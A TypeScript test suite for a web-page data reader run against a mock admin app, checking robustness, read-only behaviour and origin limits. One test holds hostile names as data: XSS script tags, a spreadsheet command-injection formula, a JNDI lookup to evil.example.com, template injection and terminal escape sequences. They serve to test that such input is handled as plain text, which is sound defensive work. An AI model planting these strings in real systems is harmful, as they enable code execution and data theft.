import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { WarmBrowser } from "../../src/browser/browser.ts";
import type { DemoApp } from "../../src/mock/demo-app/server.ts";
import { openApp } from "../mock/demo-app/visit.ts";
import { openPageServer } from "../support/page-server.ts";
import { openTestBrowser } from "../support/test-browser.ts";
import { idsOf, runAt, table, type DemoRun, type RunOptions } from "./demo-run.ts";

let browser: WarmBrowser;
let app: DemoApp;

beforeAll(async () => {
  browser = openTestBrowser();
  app = await openApp();
});
afterAll(async () => {
  await browser.close();
  await app.close();
});

const runWith = (troubles: string, more: object, options?: RunOptions): Promise<DemoRun> =>
  runAt(browser, app.at(troubles), { ...table, ready: { timeout: "3s" }, ...more }, options);

const named = {
  userId: { attribute: "data-user-id" },
  userName: ".name",
  pageViews: { text: ".views", transforms: ["number"] },
};
const items = { userId: { json: "userId" }, userName: { json: "userName" }, pageViews: { json: "pageViews" } };

describe("the same users are read", () => {
  test.each<[string, string, object, RunOptions?]>([
    ["in a table that a socket draws anew", "", { path: "users/live" }],
    ["in a frame", "", { path: "users/frame", rows: ".users-frame >>> table.users tbody tr" }],
    [
      "in shadow roots",
      "",
      {
        path: "users/shadow",
        rows: "user-list >>> user-row",
        fields: {
          userId: { attribute: "data-user-id" },
          userName: ">>> .name",
          pageViews: { text: ">>> .views", transforms: ["number"] },
        },
      },
    ],
    [
      "in pairs of rows",
      "",
      {
        path: "users/pairs",
        rows: "tr.user",
        fields: { ...named, pageViews: { sibling: ".details", text: ".views", transforms: ["number"] } },
      },
    ],
    ["after placeholders", "skeleton:300", {}],
    ["in an app of the browser, by its rows", "", { path: "users/app" }],
    [
      "in an app of the browser, by what it fetched",
      "",
      {
        path: "users/app",
        rows: undefined,
        data: { response: "**/api/users?*", items: "users", total: "total" },
        fields: items,
      },
    ],
    [
      "in an app of the browser, by rows and what it fetched",
      "",
      {
        path: "users/app",
        data: { response: "**/api/users?*", items: "users", by: "userId" },
        fields: { ...items, userId: { attribute: "data-user-id" } },
      },
    ],
    [
      "in an app of the browser, by the JSON in its page",
      "",
      { path: "users/app", rows: undefined, data: { embedded: "#state", items: "users" }, fields: items },
    ],
    [
      "in an app of the browser, by a global",
      "",
      { path: "users/app", rows: undefined, data: { global: "__STATE__", items: "users" }, fields: items },
    ],
    [
      "by what a socket brought",
      "",
      { path: "users/live", rows: undefined, data: { frame: "**/users/live", items: "users" }, fields: items },
    ],
    [
      "by what GraphQL answered, though the page may only read",
      "graphql",
      { rows: undefined, data: { response: "**/graphql", items: "data.users.nodes" }, fields: items },
      { readOnly: true, allowPosts: ["**/graphql"] },
    ],
    ["where scripts have replaced what everybody uses", "tampered", {}],
    ["where forms hide what everybody uses", "clobbered", { rows: "form.user" }],
    ["behind a notice that nobody clicks away", "modal", {}],
    ["once, where cards repeat the table", "duplicates", { repeats: "first" }],
  ])("%s", async (_what, troubles, more, options) => {
    const run = await runWith(troubles, { fields: named, ...more }, options);
    const healthy = await runWith("", { fields: named });
    const known = healthy.observations.map((one) => one.known);
    const read = "repeats" in more ? "23 users read from 24 rows." : `${run.ids.length} rows read.`;
    expect([run.name, run.sentence]).toEqual(["rows", read]);
    expect(run.observations.map((one) => one.known)).toEqual(troubles === "duplicates" ? known.toSpliced(1, 1) : known);
  });

  test("but not by a POST that may not be sent", async () => {
    const run = await runWith("graphql+people:3", { ready: { timeout: "300ms" } }, { readOnly: true });
    expect([run.name, run.ids]).toEqual(["not-ready", []]);
    expect(app.requests.filter(({ method, path }) => method === "POST" && path.includes("people:3"))).toEqual([]);
  });
});

test("a feed of deeds gives each user once, with the day of the heading above", async () => {
  const site = {
    path: "activity",
    rows: ".feed dd",
    repeats: "newest",
    fields: {
      userId: { attribute: "data-user-id", of: ".author" },
      userName: ".author",
      lastAction: ".action",
      lastActionTime: {
        join: "{day} {time}",
        parts: { day: { attribute: "data-day", before: "h3" }, time: { before: "dt time" } },
        transforms: ["date"],
      },
    },
  };
  const run = await runWith("", site);
  const { users } = (await (await fetch(new URL("api/users?size=100", app.url))).json()) as {
    users: { userId: string; lastActionTime: string }[];
  };
  expect(run.name).toBe("rows");
  expect(Object.fromEntries(run.observations.map(({ known }) => [known.userId, known.lastActionTime]))).toEqual(
    Object.fromEntries(users.map(({ userId, lastActionTime }) => [userId, `${lastActionTime.slice(0, 16)}:00.000Z`])),
  );
});

describe("an app that speaks another language", () => {
  test.each([
    ["german", "de-DE", "Europe/Berlin"],
    ["french", "fr-FR", "Europe/Paris"],
    ["spanish", "es-ES", "Europe/Madrid"],
  ])("%s", async (troubles, locale, timeZone) => {
    const fields = {
      ...named,
      sessionDuration: { text: ".session", transforms: ["duration"] },
      lastActionTime: { text: "time", transforms: ["date"] },
    };
    const { name, observations } = await runWith(troubles, { locale, timeZone, fields });
    expect(name).toBe("rows");
    const [first, second, third] = observations.map(({ known }) => known);
    expect(first).toMatchObject({
      sessionDuration: 1234.5,
      pageViews: 12_345,
      lastActionTime: "2026-11-23T12:00:00.000Z",
    });
    expect(second).toMatchObject({ lastActionTime: "2026-11-23T10:00:00.000Z" });
    expect(third).toMatchObject({ lastActionTime: "2026-11-22T10:00:00.000Z" });
    expect(observations.every(({ missing }) => Object.keys(missing).length === 0)).toBe(true);
  });

  test("times without a zone are of the site's own", async () => {
    const site = {
      timeZone: "Asia/Tokyo",
      fields: { ...named, lastActionTime: { text: "time", transforms: ["date"] } },
    };
    const [far, near] = await Promise.all([runWith("far-times", site), runWith("", {})]);
    const hours = 3_600_000;
    expect(Date.parse(far.observations[0]!.known.lastActionTime!)).toBe(
      Math.floor(Date.parse(near.observations[0]!.known.lastActionTime!) / 1_000) * 1_000 - 9 * hours,
    );
  });
});

describe("what strangers wrote", () => {
  test("is given as it stands", async () => {
    const { name, observations } = await runWith("hostile-names", {});
    const names = observations.slice(0, 12).map(({ known, missing }) => known.userName ?? missing.userName);
    expect(name).toBe("rows");
    expect(names).toEqual([
      "<script>document.title='owned'</script>",
      `<img src=x onerror="document.title='owned'">`,
      `"O'Brien" & 'Sons' \`x\``,
      "gnp.ylimaf",
      "Zero\u200DWidth",
      "\u001B[31mred\u001B[0m \u001B]0;title\u0007",
      `=cmd|' /C calc'!A0`,
      "Long".repeat(1_000),
      "Two Lines and tabs",
      "${jndi:ldap://evil.example.com/a} {{7*7}} %s",
      ".name is empty",
      "\u{1F469}\u200D\u{1F680} Ada \u0410\u0434\u0430",
    ]);
  });

  test("commands no terminal from a sentence", async () => {
    await using server = await openPageServer("<title>\u001B]0;owned\u0007\u202E“</title><p>Hello</p>");
    const { sentence, verdict } = await runAt(browser, server.url, { ...table, path: "", ready: { timeout: "100ms" } });
    expect(sentence).toBe(
      'https://app.example.com/ (“]0;owned \\u202e"”, status 200) loaded, but table.users tbody tr matched nothing and nothing proves an empty list. Compare the page with the selector file: .no-users is not there either.',
    );
    // oxlint-disable-next-line no-control-regex
    expect(JSON.stringify(verdict)).not.toMatch(/[\u0000-\u001f\u202e]|\\u001b/);
  });
});

test("nothing is clicked, and nowhere is gone, that a selector file does not name", async () => {
  const run = await runWith("leaves+people:40", { path: "users?page=1&size=10", pages: { next: "[rel=next]" } });
  expect([run.name, run.ids]).toEqual(["rows", await idsOf(app, "people:40")]);
  expect(app.deactivationsAt("leaves+people:40")).toEqual(new Set());
  expect(app.requests.filter(({ path }) => /logout|deactivate/.test(path))).toEqual([]);
});

test("a page that leaves for another site stays, and says so where it has no rows", async () => {
  const run = await runWith("leaves+endless-spinner", { ready: { timeout: "1200ms" } });
  expect([run.name, run.sentence]).toEqual([
    "layout-changed",
    "https://app.example.com/with/leaves+endless-spinner/users (“Users · Harbour Admin”, status 200) wanted to go to https://elsewhere.example.com/, which is not among the target's origins. Correct the target's url, or add that origin.",
  ]);
});

test("a response that never came is told", async () => {
  const run = await runWith("", { ready: { timeout: "200ms", response: "**/api/never" } });
  expect([run.name, run.ids.length, run.sentence]).toEqual([
    "partial",
    24,
    "24 rows read on https://app.example.com/users (“Users · Harbour Admin”, status 200), but what the site waits for never came: the response **/api/never.",
  ]);
});
